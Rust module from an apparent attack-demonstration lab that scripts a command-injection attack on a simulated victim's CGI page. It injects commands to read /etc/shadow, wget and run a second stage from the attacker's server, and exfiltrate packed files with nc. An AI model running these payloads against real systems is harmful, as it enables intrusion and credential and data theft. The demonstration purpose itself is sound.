//! The attack, step by step, each through the hole in the web page.

use std::net::SocketAddr;

use anyhow::{Result, bail};

use super::attacker::{self, DROP_PORT, SECOND_STAGE, WEB_PORT};
use super::http;
use super::network::{ATTACKER, VICTIM};
use crate::interrupt;

/// One thing the attacker does.
struct Step {
    /// What it is, for the person who watches.
    title: &'static str,
    /// What the victim's shell is made to run.
    ///
    /// Programs are called by their paths: the shell of busybox would otherwise run its own copy of them without an exec.
    command: String,
    /// What the step must print to have worked.
    expected: Output,
}

/// What a command prints, after the page's own line.
#[derive(Clone, Copy)]
enum Output {
    /// Something with this in it.
    Containing(&'static str),
    /// Nothing: it would only print if it failed.
    Nothing,
}

/// The line that the page itself prints.
const PAGE: &str = "checking localhost\n";

/// Address of the victim's web server.
pub(super) fn victim() -> SocketAddr {
    SocketAddr::from((
        VICTIM
            .parse::<std::net::Ipv4Addr>()
            .unwrap_or(std::net::Ipv4Addr::LOCALHOST),
        80,
    ))
}

fn steps() -> Vec<Step> {
    use Output::{Containing, Nothing};
    let step = |title, command: &str, expected| Step {
        title,
        command: command.to_owned(),
        expected,
    };
    vec![
        step("tries whether commands run", "/bin/id", Containing("uid=0(root)")),
        step(
            "reads the password hashes",
            "/bin/cat /etc/shadow",
            Containing("shop:$6$"),
        ),
        step(
            "fetches a second stage from a web server of its own",
            &format!("/bin/wget -q -O /tmp/.update http://{ATTACKER}:{WEB_PORT}/{SECOND_STAGE}"),
            Nothing,
        ),
        step("makes it executable", "/bin/chmod +x /tmp/.update", Nothing),
        step("runs it", "/tmp/.update", Containing("Linux shop")),
        step("deletes it", "/bin/rm /tmp/.update", Nothing),
    ]
}

/// A visitor first, then the attack; to be called inside the attacker's namespace.
pub(super) fn run() -> Result<()> {
    println!("  a visitor opens the page, and uses it as intended");
    http::get(victim(), "/")?;
    request("localhost", Output::Nothing)?;
    for Step {
        title,
        command,
        expected,
    } in steps()
    {
        interrupt::check()?;
        println!("  the attacker {title}: {command}");
        request(&format!("localhost;{command}"), expected)?;
    }
    steal()
}

fn steal() -> Result<()> {
    let command = format!("/bin/nc {ATTACKER} {DROP_PORT} < /tmp/.loot");
    println!("  the attacker sends the packed files out: {command}");
    let (_, loot) = attacker::receive(|| request(&format!("localhost;{command}"), Output::Nothing))?;
    if !String::from_utf8_lossy(&loot).contains("Ada Example") {
        bail!("the stolen file arrived without its content ({} bytes)", loot.len());
    }
    println!("  {} bytes have left the container", loot.len());
    Ok(())
}

/// Asks the page to check `host`.
fn request(host: &str, expected: Output) -> Result<()> {
    let answer = http::get(victim(), &format!("/cgi-bin/check?host={}", http::encode(host)))?;
    let printed = answer.strip_prefix(PAGE);
    let as_expected = printed.is_some_and(|printed| match expected {
        Output::Containing(text) => printed.contains(text),
        Output::Nothing => printed.is_empty(),
    });
    if !as_expected {
        bail!("{host:?} did not do what it should; the page said {answer:?}");
    }
    Ok(())
}
